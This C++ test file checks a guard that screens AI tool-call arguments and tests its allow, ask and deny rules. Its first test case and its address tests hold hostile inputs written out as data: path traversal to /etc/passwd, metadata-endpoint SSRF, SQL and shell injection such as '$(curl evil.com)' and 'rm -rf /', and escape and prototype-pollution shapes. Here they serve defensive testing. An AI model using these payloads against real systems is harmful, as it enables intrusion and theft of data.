#include <random>

#include <doctest/doctest.h>

#include "policy/compiled_policy.h"
#include "policy/policy_loader.h"
#include "support/guard_session.h"

namespace merlon {
namespace {

using test::GuardSession;

constexpr std::string_view kArgumentsPolicy = R"(
format = 1
name = "arguments"
[[guard]]
type = "arguments"
)";

constexpr std::string_view kArgumentTools = R"([
  {"name":"read_file","description":"Reads a file.",
   "inputSchema":{"type":"object","properties":{"path":{"type":"string"}}}},
  {"name":"fetch","description":"Fetches a URL.",
   "inputSchema":{"type":"object","properties":{"url":{"type":"string"}}}},
  {"name":"find_user","description":"Finds a user.",
   "inputSchema":{"type":"object","properties":{"name":{},"is_admin":{"type":"boolean"}}}},
  {"name":"write_note","description":"Writes a note.",
   "inputSchema":{"type":"object","properties":{"path":{},"content":{}}}},
  {"name":"run_command","description":"Runs a shell command.",
   "inputSchema":{"type":"object","properties":{"command":{"type":"string"}}}},
  {"name":"postgres_query","description":"Runs SQL.",
   "inputSchema":{"type":"object","properties":{"query":{"type":"string"}}}},
  {"name":"web_search","description":"Searches the web.",
   "inputSchema":{"type":"object","properties":{"query":{"type":"string"}}}}])";

GuardSession session_with(std::string_view more) {
  GuardSession session(std::string(kArgumentsPolicy) + std::string(more));
  session.offer(kArgumentTools);
  return session;
}

Fact known_fact(NeedKind kind, std::string what, std::vector<std::string> values,
                FactState state = FactState::kKnown) {
  return {
      .need = {.kind = kind, .what = std::move(what)}, .state = state, .values = std::move(values)};
}

std::vector<std::string> argument_policy_errors(std::string_view more) {
  auto policy = parse_policy(
      SourceText::copy_of("policy.toml", std::string(kArgumentsPolicy) + std::string(more)), {});
  REQUIRE(policy.has_value());
  const auto compiled = compile_policy(*std::move(policy), {});
  std::vector<std::string> out;
  for (const Error& error : compiled ? std::vector<Error>{} : compiled.error()) {
    out.push_back(std::to_string(error.where.line) + ": " + error.message);
  }
  return out;
}

struct ShapeCase {
  std::string tool;
  std::string arguments;
  Verdict verdict;
  std::string rule;
};

}  // namespace

TEST_CASE("arguments: shapes of attacks are found without any configuration") {
  GuardSession session = session_with("");
  const std::vector<ShapeCase> cases{
      {"read_file", R"({"path":"../../etc/passwd"})", Verdict::kDeny, "path-traversal"},
      {"read_file", R"({"path":"a/%2e%2e/%2e%2e/x"})", Verdict::kDeny, "path-traversal"},
      {"read_file", R"({"path":"/srv/x%2f..%2fy"})", Verdict::kDeny, "path-encoded"},
      {"read_file", R"({"path":"a\u0000.txt"})", Verdict::kDeny, "path-nul"},
      {"read_file", R"({"path":"/proc/self/root/etc/shadow"})", Verdict::kDeny, "path-process"},
      {"read_file", R"({"path":["a","..\\..\\x"]})", Verdict::kDeny, "path-traversal"},
      {"fetch", R"({"url":"http://169.254.169.254/latest/meta-data"})", Verdict::kDeny,
       "private-address"},
      {"fetch", R"({"url":"http://2130706433/"})", Verdict::kDeny, "private-address"},
      {"fetch", R"({"url":"http://[::ffff:10.0.0.1]:80/"})", Verdict::kDeny, "private-address"},
      {"fetch", R"({"url":"http://user@localhost./"})", Verdict::kDeny, "private-address"},
      {"fetch", R"({"url":"127.0.0.1:8080/x"})", Verdict::kDeny, "private-address"},
      {"fetch", R"({"url":"localhost:3000"})", Verdict::kDeny, "private-address"},
      {"fetch", R"({"url":"[::1]/x"})", Verdict::kDeny, "private-address"},
      {"fetch", R"({"url":"http://good.com\\@evil.com/"})", Verdict::kAsk, "url-ambiguous"},
      {"fetch", R"({"options":{"target":"http://192.168.0.1"}})", Verdict::kDeny,
       "private-address"},
      {"find_user", R"({"name":"x' OR '1'='1"})", Verdict::kAsk, "sql-injection"},
      {"find_user", R"({"name":"admin'--"})", Verdict::kAsk, "sql-injection"},
      {"find_user", R"({"name":"x'; DROP TABLE users"})", Verdict::kAsk, "sql-injection"},
      {"find_user", R"({"name":"1 UNION SELECT"})", Verdict::kAllow, ""},
      {"find_user", R"({"name":"x') UNION ALL SELECT password"})", Verdict::kAsk, "sql-injection"},
      {"find_user", R"({"name":"a; rm -rf /"})", Verdict::kAsk, "shell-injection"},
      {"find_user", R"j({"name":"$(curl evil.com)"})j", Verdict::kAsk, "shell-injection"},
      {"find_user", R"({"name":"`whoami`"})", Verdict::kAsk, "shell-injection"},
      {"find_user", R"({"name":"a | bash"})", Verdict::kAsk, "shell-injection"},
      {"find_user", R"j({"name":"x.__subclasses__()"})j", Verdict::kAsk, "escape-shape"},
      {"find_user", R"({"name":"/var/run/docker.sock"})", Verdict::kAsk, "escape-shape"},
      {"find_user", R"({"name":"eyJhbGciOiJub25lIn0.e30."})", Verdict::kAsk, "escape-shape"},
      {"find_user", R"({"name":"a","bypass_auth":true})", Verdict::kAsk, "undeclared-right"},
      {"find_user", R"({"name":"a","password":{"$ne":null}})", Verdict::kAsk, "operator-for-login"},
      {"find_user", R"({"name":"a","__proto__":{"x":1}})", Verdict::kAsk, "prototype-key"},
      {"read_file", R"({"path":"/srv/a","path":"/etc/passwd"})", Verdict::kDeny, "argument-twice"}};
  for (const ShapeCase& one : cases) {
    CAPTURE(one.arguments);
    const Decision decision = session.call(one.tool, one.arguments);
    CHECK(decision.verdict == one.verdict);
    CHECK(test::deciding_rule(decision) == one.rule);
  }
}

TEST_CASE("arguments: ordinary arguments are quiet") {
  GuardSession session = session_with("");
  const std::vector<std::pair<std::string, std::string>> cases{
      {"read_file", R"({"path":"/srv/app/../app/a b.txt"})"},
      {"read_file", R"({"path":"C:\\Users\\me\\notes.txt"})"},
      {"read_file", R"({"path":"~/notes/50%25 off... really.txt"})"},
      {"read_file", R"({"path":"/proc/cpuinfo"})"},
      {"fetch", R"({"url":"example.com/x"})"},
      {"fetch", R"({"url":"docs/page"})"},
      {"fetch", R"({"url":"/page/2"})"},
      {"fetch", R"({"url":"12"})"},
      {"fetch", R"({"url":"https://example.com/a?x='1'&y=2;z#f"})"},
      {"fetch", R"({"url":"https://user@b\u00fccher.de:8443/"})"},
      {"find_user", R"({"name":"O'Brien and Sons; Dogs & Cats","is_admin":true})"},
      {"find_user", R"({"name":"Tom -- or Jerry (R&D) 100%"})"},
      {"find_user", R"({"name":"price < 3 and size > 4; find me"})"},
      {"write_note", R"({"path":"a.md","content":"`rm -rf /` and ' OR '1'='1 and ../../etc"})"},
      {"write_note", R"({"path":"a.md","content":"see http://localhost:3000/"})"},
      {"run_command", R"({"command":"cat ../x | grep $(date) && rm -f a; echo `id`"})"},
      {"postgres_query", R"({"query":"SELECT 'a' OR '1'='1'; DROP TABLE x"})"},
      {"web_search", R"({"query":"how to union select in sql; what is $PATH"})"},
      {"web_search", R"({"query":"cats & dogs; find a vet | prices"})"}};
  for (const auto& [tool, arguments] : cases) {
    CAPTURE(arguments);
    const Decision decision = session.call(tool, arguments);
    CHECK(decision.verdict == Verdict::kAllow);
    CHECK(test::deciding_rule(decision).empty());
  }
}

TEST_CASE("arguments: resources and prompts are looked at too") {
  GuardSession session = session_with("");
  const auto read = [&session](std::string_view uri) {
    return session.send(Direction::kToServer,
                        R"({"jsonrpc":"2.0","id":"r","method":"resources/read","params":{"uri":")" +
                            std::string(uri) + R"("}})");
  };
  CHECK(test::deciding_rule(read("file:///srv/../../etc/passwd")) == "path-traversal");
  CHECK(read("file:///srv/a.txt").verdict == Verdict::kAllow);
  const Decision prompt = session.send(
      Direction::kToServer,
      R"({"jsonrpc":"2.0","id":"p","method":"prompts/get","params":{"name":"p","arguments":{"file":"../../x"}}})");
  CHECK(test::deciding_rule(prompt) == "path-traversal");
}

TEST_CASE("arguments: random spellings of inside addresses are all denied") {
  GuardSession session = session_with("");
  std::mt19937 random(15);
  const std::vector<std::string> hosts{"127.0.0.1",
                                       "127.1",
                                       "0x7f000001",
                                       "0177.0.0.1",
                                       "2130706433",
                                       "10.1.2.3",
                                       "0xa.1",
                                       "[::1]",
                                       "[::ffff:127.0.0.1]",
                                       "[fd00:ec2::254]",
                                       "[64:ff9b::7f00:1]",
                                       "169.254.169.254",
                                       "0xA9FEA9FE",
                                       "localhost",
                                       "LOCALHOST.",
                                       "metadata.google.internal",
                                       "%6cocalhost",
                                       "\xEF\xBC\x91\xEF\xBC\x90.0.0.1",
                                       "192.168.257",
                                       "0"};
  const std::vector<std::string> schemes{"http://", "HTTPS://",  "ws://",   "http:/",
                                         "ftp://",  "http:////", " http://"};
  const std::vector<std::string> users{"", "good.com@", "a:b@"};
  const std::vector<std::string> ends{"",          "/",          ":80",       ":8080/x",
                                      "?good.com", "#@good.com", "/@good.com"};
  for (int run = 0; run < 400; ++run) {
    const std::string user = users[random() % users.size()];
    const std::string url = schemes[random() % schemes.size()] + user +
                            hosts[random() % hosts.size()] + ends[random() % ends.size()];
    CAPTURE(url);
    REQUIRE(session.call("fetch", "{\"url\":\"" + url + "\"}").verdict == Verdict::kDeny);
  }
}

TEST_CASE("arguments: rules of a tool entry hold what an argument may be") {
  GuardSession session = session_with(R"(
[guard.config]
shapes = false
[[tool]]
tool = "find_user"
[[tool.argument]]
name = "name"
type = "string"
required = true
min_length = 2
max_length = 5
pattern = "[a-z]+|x1"
[[tool.argument]]
name = "limit"
type = "integer"
minimum = 1
maximum = 9007199254740993
[[tool.argument]]
pointer = "/sort/by"
enum = ["name", 3, true]
[[tool.argument]]
name = "debug"
forbidden = true
)");
  const std::vector<std::pair<std::string, std::string>> cases{
      {R"({"name":"abc"})", ""},
      {R"({"name":"x1","limit":1,"sort":{"by":3.0}})", ""},
      {R"({})", "argument-missing"},
      {R"({"name":7})", "argument-value"},
      {R"({"name":"a"})", "argument-value"},
      {R"({"name":"abcdef"})", "argument-value"},
      {R"({"name":"ABC"})", "argument-pattern"},
      {R"({"name":"abc\n"})", "argument-pattern"},
      {R"({"name":"abc","limit":0})", "argument-value"},
      {R"({"name":"abc","limit":1.5})", "argument-value"},
      {R"({"name":"abc","limit":2.0})", ""},
      {R"({"name":"abc","limit":9007199254740993})", ""},
      {R"({"name":"abc","limit":9007199254740994})", "argument-value"},
      {R"({"name":"abc","limit":1e999})", "argument-value"},
      {R"({"name":"abc","sort":{"by":"size"}})", "argument-value"},
      {R"({"name":"abc","sort":{"by":true}})", ""},
      {R"({"name":"abc","debug":null})", "argument-forbidden"}};
  for (const auto& [arguments, rule] : cases) {
    CAPTURE(arguments);
    const Decision decision = session.call("find_user", arguments);
    CHECK(test::deciding_rule(decision) == rule);
    CHECK(decision.verdict == (rule.empty() ? Verdict::kAllow : Verdict::kDeny));
  }
  const Decision denied = session.call("find_user", R"({"name":"abc","sort":{"by":"size"}})");
  Reason expected;
  expected.code = DenialCode::kSuspiciousInput;
  expected.rule_id = "argument-value";
  expected.severity = Severity::kHigh;
  expected.message = "argument `/sort/by`: is not among the values that are allowed";
  expected.pointer = "/params/arguments/sort/by";
  expected.remedy = "call the tool with an argument that the policy allows";
  CHECK(*determining_reasons(denied).front() == expected);
}

TEST_CASE("arguments: a pattern that reaches its bound of steps is an error, never a pass") {
  GuardSession session = session_with(R"(
[guard.config]
shapes = false
[[tool]]
tool = "find_user"
[[tool.argument]]
name = "name"
pattern = "(a+)+b"
)");
  const Decision decision =
      session.call("find_user", R"({"name":")" + std::string(4000, 'a') + R"("})");
  CHECK(decision.verdict == Verdict::kDeny);
  CHECK(session.call("find_user", R"({"name":"aab"})").verdict == Verdict::kAllow);
}

TEST_CASE("arguments: paths are held on the text and on where they really lead") {
  GuardSession session = session_with(R"(
[[tool]]
tool = "read_file"
[[tool.argument]]
name = "path"
paths = {within = ["/srv/project"], deny = ["/srv/project/.git"]}
)");
  const std::string inside = R"({"path":"/srv/project/a"})";
  const auto fact = [](std::string what, std::string real) {
    return known_fact(NeedKind::kPath, std::move(what), {std::move(real)});
  };
  const auto call = [&](std::string_view path, std::string real) {
    session.facts.answers = {fact(std::string(path), std::move(real)),
                             fact("/srv/project", "/data/project"),
                             fact("/srv/project/.git", "/data/project/.git")};
    return session.call("read_file", R"({"path":")" + std::string(path) + R"("})");
  };
  const Evaluation waiting = session.ask(
      Direction::kToServer,
      R"({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":)" +
          inside + "}}");
  CHECK(waiting.needs == std::vector<Need>{{.kind = NeedKind::kPath, .what = "/srv/project/a"},
                                           {.kind = NeedKind::kPath, .what = "/srv/project"},
                                           {.kind = NeedKind::kPath, .what = "/srv/project/.git"}});
  CHECK(call("/srv/project/a", "/data/project/a").verdict == Verdict::kAllow);
  CHECK(test::deciding_rule(call("/srv/project/link", "/etc/passwd")) == "path-outside");
  CHECK(test::deciding_rule(call("/srv/project/link", "/data/project/.GIT/x")) == "path-denied");
  CHECK(test::deciding_rule(call("/srv/project/.git/config", "/data/project/.git/config")) ==
        "path-denied");
  CHECK(test::deciding_rule(call("/etc/passwd", "/data/project/a")) == "path-outside");
  CHECK(call("src/a", "/data/project/src/a").verdict == Verdict::kAllow);
  CHECK(test::deciding_rule(call("src/a", "/home/x/src/a")) == "path-outside");
  session.facts.answers = {known_fact(NeedKind::kPath, "/srv/project/a", {}, FactState::kTimeout),
                           fact("/srv/project", "/data/project"),
                           fact("/srv/project/.git", "/data/project/.git")};
  const Decision late = session.call("read_file", inside);
  CHECK(late.verdict == Verdict::kDeny);
  CHECK(late.erroring == std::vector<std::string>{"arguments"});
}

TEST_CASE("arguments: hosts are held on the name and on the addresses it has") {
  GuardSession session = session_with(R"(
[guard.config]
shapes = false
[[tool]]
tool = "fetch"
[[tool.argument]]
name = "url"
hosts = {allow = ["*.example.com", "b\u00fccher.de", "127.0.0.1"]}
)");
  const auto call = [&](std::string_view url, std::string host, std::vector<std::string> values,
                        FactState state = FactState::kKnown) {
    session.facts.answers = {
        known_fact(NeedKind::kHost, std::move(host), std::move(values), state)};
    return session.call("fetch", R"({"url":")" + std::string(url) + R"("})");
  };
  CHECK(call("https://a.example.com/", "a.example.com", {"93.184.216.34"}).verdict ==
        Verdict::kAllow);
  CHECK(call("https://B\xC3\x9C"
             "CHER.de/",
             "xn--bcher-kva.de", {"93.184.216.34"})
            .verdict == Verdict::kAllow);
  CHECK(test::deciding_rule(call("https://a.example.com/", "a.example.com",
                                 {"93.184.216.34", "10.0.0.1"})) == "host-private");
  CHECK(test::deciding_rule(call("https://a.example.com/", "a.example.com", {})) == "host-unknown");
  CHECK(test::deciding_rule(call("https://evil.com/", "evil.com", {"93.184.216.34"})) ==
        "host-not-allowed");
  CHECK(test::deciding_rule(call("https://a.example.com@evil.com/", "evil.com", {})) ==
        "host-not-allowed");
  CHECK(test::deciding_rule(call("http://127.0.0.1/", "", {})) == "host-private");
  CHECK(test::deciding_rule(call("http:a.example.com", "", {})) == "url-ambiguous");
  const Decision failed = call("https://a.example.com/", "a.example.com", {}, FactState::kFailed);
  CHECK(failed.verdict == Verdict::kDeny);
  CHECK(failed.erroring == std::vector<std::string>{"arguments"});
}

TEST_CASE("arguments: verdicts are settings, and an exception names tool and argument") {
  GuardSession session = session_with(R"(
[guard.config]
private_addresses = "allow"
injection = "deny"
[[guard.config.except]]
tool = "find_*"
argument = "name"
)");
  CHECK(session.call("fetch", R"({"url":"http://localhost:3000"})").verdict == Verdict::kAllow);
  CHECK(session.call("find_user", R"({"name":"admin'--"})").verdict == Verdict::kAllow);
  CHECK(session.call("find_user", R"({"nick":"admin'--"})").verdict == Verdict::kDeny);
}

TEST_CASE("arguments: wrong rules are errors with their places") {
  CHECK(argument_policy_errors(R"([guard.config]
injection = "maybe"
[[tool]]
tool = "a"
[[tool.argument]]
type = "text"
[[tool.argument]]
name = "p"
pattern = "("
paths = {within = ["src/../.."]}
[[tool.argument]]
name = "q"
minimum = 3
maximum = 2
hosts = {allow = ["http://x/"]}
)") == std::vector<std::string>{
           "7: unknown value `maybe` of `injection`",
           "10: an argument rule needs `name` or `pointer`, and not both",
           "11: unknown value `text` of `type`",
           "14: `pattern` is no regular expression: missing closing parenthesis",
           "15: `src/../..` is not one plain folder",
           "16: the lower bound is above the upper one: nothing can match",
           "20: `http://x/` is not a host"});
}

TEST_CASE("arguments: random bytes in arguments are judged without harm") {
  GuardSession session = session_with("");
  std::mt19937 random(3);
  constexpr std::string_view kBytes = "./%2e:@[]'\";|&$(`~ab19 #?=-_{}<>";
  for (int run = 0; run < 500; ++run) {
    std::string text;
    for (std::size_t i = 0, most = random() % 40; i < most; ++i) {
      const char c = kBytes[random() % kBytes.size()];
      text += c == '"' ? std::string("\\\"") : std::string(1, c);
    }
    const Decision decision =
        session.call(run % 2 == 0 ? "fetch" : "read_file",
                     (run % 2 == 0 ? "{\"url\":\"" : "{\"path\":\"") + text + "\"}");
    REQUIRE(decision.erroring.empty());
  }
}

}  // namespace merlon
